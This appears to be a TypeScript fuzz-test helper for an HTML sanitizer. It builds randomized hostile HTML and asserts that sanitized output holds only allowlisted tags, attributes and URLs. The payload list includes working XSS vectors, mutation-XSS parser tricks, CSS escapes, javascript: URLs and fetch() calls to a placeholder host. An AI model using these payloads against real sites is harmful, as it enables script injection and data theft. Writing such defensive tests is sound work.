// HTML of letters that are up to something: every way that is known to run, load or lead away, put together at random; and what shown HTML must not hold.
import assert from 'node:assert/strict';
import { type DefaultTreeAdapterTypes, parse } from 'parse5';
import type { Random } from './random.ts';

/** `there` is where nothing may come to. */
const WAYS: readonly ((there: string) => string)[] = [
  (there) => `<script>document.title='taken';fetch('${there}/fetch')</script>`,
  (there) => `<script src="${there}/script"></script>`,
  (there) => `<img src="${there}/image" onerror="location='${there}/error'">`,
  (there) => `<img srcset="${there}/set 2x" src=x>`,
  (there) =>
    `<svg onload="fetch('${there}/svg')"><script>fetch('${there}/svg2')</script><image href="${there}/svg3"/></svg>`,
  (there) =>
    `<link rel="stylesheet" href="${there}/style"><link rel="preconnect" href="${there}"><link rel="dns-prefetch" href="${there}">`,
  (there) => `<link rel="preload" as="image" href="${there}/preload"><link rel="prefetch" href="${there}/prefetch">`,
  (there) => `<meta http-equiv="refresh" content="0;url=${there}/refresh"><base href="${there}/">`,
  (there) =>
    `<iframe src="${there}/frame"></iframe><iframe srcdoc="<script>fetch('${there}/srcdoc')</script>"></iframe>`,
  (there) =>
    `<object data="${there}/object"></object><embed src="${there}/embed"><applet code="${there}/applet"></applet>`,
  (there) =>
    `<form action="${there}/form" method=post><input name=q autofocus onfocus="this.form.submit()"><button>Skicka</button></form>`,
  (there) =>
    `<a href="javascript:fetch('${there}/js')" ping="${there}/ping">x</a><a href="${there}/link" target="_top">Följ</a>`,
  () =>
    `<a href="java&#10;script:alert(1)">y</a><a href=" &#1;javascript:alert(1)">z</a><a href="data:text/html,<script>1</script>">d</a>`,
  (there) =>
    `<style>@import "${there}/import"; body{background:url(${there}/css)} p::after{content:url('${there}/after')}</style>`,
  (there) =>
    `<style>@\\69mport "${there}/esc";a{background:u\\72l(${there}/esc2);background:image-set("${there}/set" 1x)}</style>`,
  (there) =>
    `<p style="background:url(${there}/inline);list-style:url('${there}/list')">p</p><table background="${there}/table"><tr><td>t</table>`,
  (there) =>
    `<video poster="${there}/poster" src="${there}/video" autoplay></video><audio src="${there}/audio" autoplay></audio>`,
  (there) => `<math><mtext><style><img src="${there}/mxss" onerror=alert(1)></style></mtext></math>`,
  (there) => `<svg><style><a title="</style><link rel=preconnect href=${there}><img src=${there}/mx2>">`,
  (there) => `<noscript><p title="</noscript><img src='${there}/noscript' onerror=alert(1)>">`,
  (there) =>
    `<textarea></textarea><img src=${there}/rcdata></textarea><title></title><script>fetch('${there}/t')</script></title>`,
  (there) =>
    `<template><script>fetch('${there}/tpl')</script></template><xmp></xmp><img src=${there}/xmp></xmp><plaintext>`,
  () => '<!--<script>-->',
  () => '<![CDATA[<script>alert(1)</script>]]><?xml version="1.0"?><?php echo 1 ?>',
  (there) => `<body onload="fetch('${there}/body')" background="${there}/bg"><html manifest="${there}/appcache">`,
  (there) =>
    `<portal src="${there}/portal"></portal><fencedframe src="${there}/fenced"></fencedframe><frameset><frame src="${there}/fs"></frameset>`,
  () => '<div '.repeat(40),
  () => '<b><i><p>'.repeat(60),
  () => '</p></div></table></body></html>',
  () => '\u0000<\u0000script>alert(1)</script\u0000>',
  () => '<details open ontoggle=alert(1)><summary>s</summary><marquee onstart=alert(1)>m</marquee></details>',
  () => '<input type=image src=x onerror=alert(1)><isindex action=x><keygen autofocus onfocus=alert(1)>',
  (there) => `<a id=x href="${there}">å</a><p dir=rtl>\u202e txt.exe \u2066</p>`,
  () => '<style></sty',
  () => '<img src="data:image/svg+xml,<svg onload=alert(1)>"><img src="data:text/html,<script>1</script>">',
];

/** Some of the ways, cut and mixed, and a paragraph that is to be read. */
export function hostileHtml(random: Random, there: string, read: string): string {
  const parts = Array.from({ length: 1 + random.below(6) }, () => {
    const way = random.of(WAYS)(there);
    return random.below(4) === 0 ? way.slice(0, random.below(way.length)) : way;
  });
  parts.splice(random.below(parts.length + 1), 0, `<p>${read}</p>`);
  const html = parts.join(random.of(['', '\n', '"', "'", '>', '<', '&lt;']));
  return random.below(5) === 0 ? `<!doctype html><html><head></head><body>${html}</body></html>` : html;
}

/** Each way alone, for a test that wants to see all. */
export function everyWay(there: string): readonly string[] {
  return WAYS.map((way) => way(there));
}

type Node = DefaultTreeAdapterTypes.Node;
const ALLOWED =
  /^(?:html|head|body|title|meta|style|a|abbr|address|article|aside|b|bdi|bdo|big|blockquote|br|caption|center|cite|code|col|colgroup|dd|del|details|dfn|div|dl|dt|em|figcaption|figure|font|footer|h[1-6]|header|hr|i|img|ins|kbd|li|main|mark|nav|ol|p|pre|q|rp|rt|ruby|s|samp|section|small|span|strike|strong|sub|summary|sup|table|tbody|td|tfoot|th|thead|time|tr|tt|u|ul|var|wbr)$/;

/** Fails unless the document, read as a browser reads it, holds nothing that runs, loads or leads anywhere by itself. */
export function assertHarmless(document: string): void {
  const nodes: Node[] = [parse(document)];
  for (let node = nodes.pop(); node !== undefined; node = nodes.pop()) {
    if ('childNodes' in node) nodes.push(...node.childNodes);
    if (!('tagName' in node)) continue;
    assert.match(node.tagName, ALLOWED);
    assert.equal(node.namespaceURI, 'http://www.w3.org/1999/xhtml', node.tagName);
    if (node.tagName === 'style')
      assertHarmlessCss(node.childNodes.map((child) => ('value' in child ? child.value : '')).join(''));
    for (const { name, value } of node.attrs) assertHarmlessAttribute(node.tagName, name, value);
  }
}

function assertHarmlessAttribute(tag: string, name: string, value: string): void {
  assert.ok(
    !/^on|^srcset$|^srcdoc$|^ping$|^background$|^action$|^formaction$|^poster$|^data$|^target$/.test(name),
    `${tag} ${name}`,
  );
  if (name === 'src') assert.match(value, /^\s*data:image\/(?:png|jpeg|jpg|gif|webp);base64,/);
  if (name === 'href') assert.match(value, /^(?:https?:\/\/|mailto:|tel:|#)/i);
  if (name === 'style') assertHarmlessCss(value);
  if (tag === 'meta') assert.ok(['charset', 'name', 'content'].includes(name), name);
}

function assertHarmlessCss(css: string): void {
  assert.ok(!/\\|@import|url\s*\(|image-set\s*\(|src\s*\(/i.test(css), css);
}
